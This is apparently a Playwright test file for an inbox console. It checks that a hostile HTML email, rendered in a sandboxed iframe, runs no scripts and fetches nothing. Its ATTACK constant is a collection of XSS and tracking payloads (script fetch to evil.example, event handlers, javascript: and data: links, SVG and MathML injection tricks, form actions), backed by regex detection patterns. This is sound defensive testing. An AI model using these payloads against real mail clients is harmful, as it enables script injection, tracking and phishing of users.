import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { answerSubject, conversationsOf, type Message, waysOf } from '../../console/src/pages/inbox/conversations.ts'
import { ATTACKS } from '../worlds/console/attacks.ts'
import { type ConsoleWorld, startConsoleWorld } from '../worlds/console/console-world.ts'
import { handIn, mail } from '../worlds/mail-world.ts'
import type { SignedInPerson } from '../worlds/players/person-world.ts'
import { addChannel, until } from '../worlds/world.ts'

/** Every way that a mail has been known to act by itself, or to lead somewhere unseen. Each names `evil.example`. */
const ATTACK = `<html><head>
<script>parent.document.title = 'taken'; fetch('https://evil.example/script')</script>
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<base href="https://evil.example/"><base target="_top">
<link rel="stylesheet" href="https://evil.example/sheet.css"><link rel="dns-prefetch" href="//evil.example">
<style>@import 'https://evil.example/import.css'; body { background: url(https://evil.example/style.png) }</style>
</head><body background="https://evil.example/background.png" onload="parent.taken = 1">
<p id="words">Dear <b>customer</b></p>
<img src="https://evil.example/pixel.gif" alt="a picture"><img srcset="https://evil.example/set.png 1x">
<img src="x" onerror="parent.taken = 2"><image src="https://evil.example/image.png">
<picture><source srcset="https://evil.example/source.png"><img src="https://evil.example/in.png"></picture>
<div style="background-image: url('https://evil.example/inline.png'); position: fixed; inset: 0">styled</div>
<svg onload="parent.taken = 3"><image href="https://evil.example/svg.png"/><script>parent.taken = 4</script>
<a xlink:href="javascript:parent.taken=5"><text>svg</text></a><use href="https://evil.example/use.svg#x"/></svg>
<math><mtext><mglyph><style><img src=x onerror="parent.taken = 6"></style></mglyph></mtext></math>
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.parent.taken = 7</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<video autoplay poster="https://evil.example/poster.png" src="https://evil.example/video"></video>
<audio autoplay src="https://evil.example/audio"></audio>
<form action="https://evil.example/form" id="f"><input name="q" value="secret" autofocus onfocus="parent.taken = 8">
<button formaction="https://evil.example/button">Sign in</button></form>
<input type="image" src="https://evil.example/input.png"><template><img src="https://evil.example/template.png"></template>
<noscript><img src="https://evil.example/noscript.png"></noscript>
<a id="link" href="https://evil.example/link?to=you" target="_top" ping="https://evil.example/ping">Your bank</a>
<a href="javascript:parent.taken=9">script link</a><a href="data:text/html,<script>parent.taken=10</script>">data link</a>
<map name="m"><area href="https://evil.example/area" shape="default"></map><details open ontoggle="parent.taken = 11">d</details>
<table width="100%" bgcolor="#eeeeee"><tr><td align="center">kept</td></tr></table>
</body></html>`

let world: ConsoleWorld
let owner: SignedInPerson
let page: Page
/** Everything that the browser asked for. */
const asked: string[] = []

beforeAll(async () => {
  world = await startConsoleWorld()
  // Before anything asks for the tenant's policy, which names its people.
  owner = await world.member('owner')
  await world.known(owner)
  await addChannel(world, { channel: 'email', address: 'hello@shop.example', sender: { isDefault: true } })
  const fields = {
    From: 'Mallory <mallory@person.example>',
    To: 'hello@shop.example',
    Subject: 'Your account',
    'Content-Type': 'text/html; charset=utf-8',
    'MIME-Version': '1.0',
  }
  const { outcome } = await handIn(world.chapar, 'mallory@person.example', 'hello@shop.example', mail(fields, ATTACK))
  expect(outcome).toBe('ok')
  await until('the mail is listed', async () => {
    const { data } = await world.json<{ readonly data: readonly unknown[] }>('/v1/messages?direction=inbound')
    return data.length > 0 || null
  })
  page = await world.open(world.at('inbox'), { as: owner })
  page.on('request', (request) => asked.push(request.url()))
  await page.getByRole('link', { name: /mallory@person.example/ }).click()
})
afterAll(() => world?.dispose())

test('a mail of HTML does nothing by itself, and leads nowhere unseen', async () => {
  await page.getByRole('button', { name: 'Show as designed' }).click()
  const frame = page.frameLocator('.mail-frame iframe')
  await frame.locator('#words, p').first().waitFor()
  await frame.getByText('kept').waitFor()

  const element = page.locator('.mail-frame iframe')
  expect(await element.getAttribute('sandbox')).toBe('')
  const shown = (await element.getAttribute('srcdoc')) ?? ''
  const [, body = ''] = shown.split('<body')
  expect(body).not.toMatch(
    /<(script|style|link|meta|base|iframe|object|embed|video|audio|svg|math|template|noscript)\b/i,
  )
  expect(body).not.toMatch(/\s(on\w+|href|srcset|style|action|formaction|background|ping|target)=/i)
  expect(body.match(/src="(?!data:image\/)/g)).toBeNull()
  expect(body).toContain('<td align="center">kept</td>')

  // A press in the frame opens nothing, and the page stays where it is.
  await frame.getByText('Your bank').click({ force: true })
  expect(page.context().pages()).toHaveLength(1)
  expect(await page.title()).toContain('Inbox')
  expect(await page.evaluate('globalThis.taken')).toBeUndefined()
  expect(asked.filter((url) => url.includes('evil.example'))).toEqual([])

  // Below it each link stands with its address, and what would have been fetched is told.
  await page.getByText('Links in this mail').click()
  const links = await page.evaluate(
    "[...document.querySelectorAll('.mail-frame details a')].map((a) => [a.textContent, a.target, a.rel])",
  )
  expect(links).toEqual([
    ['https://evil.example/link?to=you', '_blank', 'noopener noreferrer'],
    ['https://evil.example/area', '_blank', 'noopener noreferrer'],
  ])
  expect(await page.locator('.mail-frame .help').textContent()).toMatch(/were not fetched/)
  // The page's policy stops the mail's own styles already where it is read: that is told, and nothing else.
  expect(world.faults.filter((fault) => !fault.includes('Applying inline style'))).toEqual([])
})

test.each([320, 1440] as const)(
  'none of all ways that mails have acted does anything at a width of %i',
  async (width) => {
    const tab = await world.open(world.at('inbox'), { as: owner, width })
    const fetched: string[] = []
    tab.context().on('request', (request) => fetched.push(request.url()))
    // As the API answers of the one mail that came, with each of the others in its place.
    const { data, ...rest } = await world.json<{ readonly data: readonly Message[] }>('/v1/messages?direction=inbound')
    const mails = data.flatMap((own) =>
      ATTACKS.map((html, at) => ({
        ...own,
        id: `${own.id.slice(0, -3)}${100 + at}`,
        content: { ...(own.content as object), html },
      })),
    )
    await tab.route('**/v1/messages?*', (route) => route.fulfill({ json: { ...rest, data: mails } }))
    await tab.getByRole('link', { name: /mallory@person.example/ }).click()
    const designed = tab.getByRole('button', { name: 'Show as designed' })
    await until('all mails are there', async () => (await designed.count()) === ATTACKS.length)
    for (let left = ATTACKS.length; left > 0; left--) await designed.first().click()
    const frames = tab.locator('.mail-frame iframe')
    expect(await frames.count()).toBe(ATTACKS.length)
    for (let at = 0; at < ATTACKS.length; at++) {
      await frames.nth(at).scrollIntoViewIfNeeded()
      await frames.nth(at).click({ position: { x: 20, y: 20 }, force: true })
    }
    for (const details of await tab.locator('.mail-frame details summary').all()) await details.click()
    expect(await tab.evaluate('globalThis.taken')).toBeUndefined()
    expect(fetched.filter((url) => /evil|example|^javascript|^file/.test(new URL(url).host || url))).toEqual([])
    expect(tab.context().pages()).toHaveLength(1)
    expect(new URL(tab.url()).pathname).toBe(world.at('inbox'))
    expect(await tab.evaluate('document.documentElement.scrollWidth - innerWidth')).toBeLessThanOrEqual(0)
    // Of the links, the one that leads to the web stands there with its whole address; what it says is cut short.
    const lists = await tab.evaluate<string[]>(
      "[...document.querySelectorAll('.mail-frame details li')].map((li) => li.textContent)",
    )
    expect(lists).toHaveLength(1)
    expect(lists.filter((said) => said.length > 3_300).map((said) => said.length)).toEqual([])
    await tab.context().close()
  },
)

test('an answer goes out by the channel and the sender that the person wrote to', async () => {
  await page.getByLabel('Answer').fill('Please stop.')
  await page.getByRole('button', { name: 'Send', exact: true }).click()
  const { data } = await until('the answer is listed', async () => {
    const found = await world.json<{ readonly data: readonly Message[] }>(
      '/v1/messages?direction=outbound&channel=email',
    )
    return found.data.length > 0 ? found : null
  })
  expect(data[0]).toMatchObject({ to: 'mallory@person.example', from: 'hello@shop.example' })
  expect(data[0]?.content).toMatchObject({ subject: 'Re: Your account', text: 'Please stop.' })
  await page.locator('.entry[data-direction=outbound]').getByText('Please stop.').waitFor()
})

test('messages are gathered by person: of a number over all channels that lead to it', () => {
  const message = (channel: string, from: string, acceptedAt: string) =>
    ({ id: `${from}${acceptedAt}`, channel, direction: 'inbound', from, to: 'us', acceptedAt }) as unknown as Message
  const found = conversationsOf([
    message('sms', '+1', '2026-01-03'),
    message('email', 'a@b', '2026-01-05'),
    message('voice', '+1', '2026-01-04'),
    message('chat', 'telegram:1', '2026-01-01'),
    { ...message('sms', '+2', '2026-01-06'), from: undefined } as unknown as Message,
  ])
  expect(found.map(({ person, count, last }) => [person.channel, person.address, count, last.channel])).toEqual([
    ['email', 'a@b', 1, 'email'],
    ['sms', '+1', 2, 'voice'],
    ['chat', 'telegram:1', 1, 'chat'],
  ])
  expect(waysOf([message('voice', '+1', '2026-01-04')]).map(({ channel, from }) => [channel, from])).toEqual([
    ['voice', 'us'],
    ['sms', undefined],
  ])
  expect(waysOf([message('push', 'dev', '2026-01-04')])).toEqual([])
})

test.each([
  ['Hi', 'Re: Hi'],
  ['Re: Hi', 'Re: Hi'],
  ['RE: re:Hi', 'Re: Hi'],
  [undefined, 'Re:'],
])('the answer to %j', (subject, answer) => {
  expect(answerSubject(subject)).toBe(answer)
})
